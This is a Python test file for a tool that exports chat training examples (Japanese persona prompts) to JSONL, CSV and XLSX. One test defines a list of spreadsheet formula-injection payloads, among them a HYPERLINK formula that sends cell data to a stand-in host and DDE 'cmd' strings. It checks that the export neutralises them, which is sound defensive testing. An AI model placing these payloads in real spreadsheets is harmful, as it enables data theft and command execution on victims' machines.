from __future__ import annotations

import csv
import io
import json

import openpyxl

from augment import Example, ReadLimits, augment, read_sheet, to_csv, to_jsonl, to_xlsx

LIMITS = ReadLimits(max_bytes=1_000_000, max_rows=100)
EXAMPLES = [
    Example.from_turns("あなたはスタックチャン", "こんにちは", "やあ！"),
    Example.from_turns("あなたはスタックチャン", "=1+2 は？", '3だよ, たぶん\n"きっと"'),
]


def test_jsonl_is_one_chat_example_per_line_in_readable_utf8() -> None:
    result = augment(EXAMPLES, method="duplicate", count=2)
    data = to_jsonl(result.examples)

    assert "こんにちは".encode() in data  # not \\u escapes
    lines = data.decode("utf-8").splitlines()
    assert len(lines) == 4
    assert json.loads(lines[0]) == {
        "messages": [
            {"role": "system", "content": "あなたはスタックチャン"},
            {"role": "user", "content": "こんにちは"},
            {"role": "assistant", "content": "やあ！"},
        ]
    }
    assert json.loads(lines[3])["messages"][2]["content"] == '3だよ, たぶん\n"きっと"'
    # What we write, we read back unchanged.
    again = read_sheet(data, "out.jsonl", default_system=None, limits=LIMITS)
    assert [e.to_json_object() for e in again.examples] == [
        e.to_json_object() for e in result.examples
    ]


def test_csv_has_a_bom_for_excel_and_reads_back() -> None:
    data = to_csv(EXAMPLES)
    assert data.startswith(b"\xef\xbb\xbfsystem,user,assistant\r\n")
    again = read_sheet(data, "review.csv", default_system=None, limits=LIMITS)
    assert [e.to_json_object() for e in again.examples] == [e.to_json_object() for e in EXAMPLES]


def test_xlsx_keeps_text_that_looks_like_a_formula_and_reads_back() -> None:
    data = to_xlsx(EXAMPLES)
    sheet = openpyxl.load_workbook(io.BytesIO(data))["LearningData"]
    assert sheet["B3"].value == "=1+2 は？" and sheet["B3"].data_type == "s"
    again = read_sheet(data, "review.xlsx", default_system=None, limits=LIMITS)
    assert [e.to_json_object() for e in again.examples] == [e.to_json_object() for e in EXAMPLES]


def test_conversations_show_each_turn_on_its_own_line_in_review_copies() -> None:
    conversation = Example(
        messages=(
            {"role": "system", "content": "s"},
            {"role": "user", "content": "u1"},
            {"role": "assistant", "content": "a1"},
            {"role": "user", "content": "u2"},
            {"role": "assistant", "content": "a2"},
        )
    )
    text = to_csv([conversation]).decode("utf-8-sig")
    assert text == 'system,user,assistant\r\ns,"u1\nu2","a1\na2"\r\n'


HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_csv_copy_keeps_formula_like_cells_as_text_and_reads_back_unchanged() -> None:
    examples = [Example.from_turns("s", text, "答え " + text) for text in HOSTILE]
    rows = list(csv.reader(io.StringIO(to_csv(examples).decode("utf-8-sig"), newline="")))
    assert [row[1] for row in rows[1:]] == ["'" + text for text in HOSTILE]
    assert [row[2] for row in rows[1:]] == ["答え " + text for text in HOSTILE]  # already text
    again = read_sheet(to_csv(examples), "review.csv", default_system=None, limits=LIMITS)
    assert [e.content_of("user") for e in again.examples] == [text.strip() for text in HOSTILE]


def test_xlsx_copy_drops_characters_xml_forbids_so_excel_can_open_it() -> None:
    example = Example.from_turns("s\x01ys", "a\ufffeb\uffffc", "lone \ud800 surrogate \x0b")
    data = to_xlsx([example])
    sheet = openpyxl.load_workbook(io.BytesIO(data))["LearningData"]
    assert [cell.value for cell in sheet[2]] == ["sys", "abc", "lone  surrogate "]
